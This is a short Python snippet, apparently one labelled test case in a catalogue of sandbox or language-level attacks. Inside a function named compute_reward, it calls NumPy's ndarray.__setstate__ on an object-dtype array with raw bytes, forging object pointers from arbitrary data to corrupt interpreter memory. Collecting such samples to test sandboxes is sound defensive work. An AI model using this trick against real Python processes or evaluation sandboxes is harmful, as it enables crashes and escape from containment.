# attack: ndarray.__setstate__ with objects
# group: numpy
# wall: language; alone: its own memory

def compute_reward(x):
    y = np.empty(1, object)
    y.__setstate__((1, (1,), np.dtype(object), False, b'x' * 8))
    return x, {}
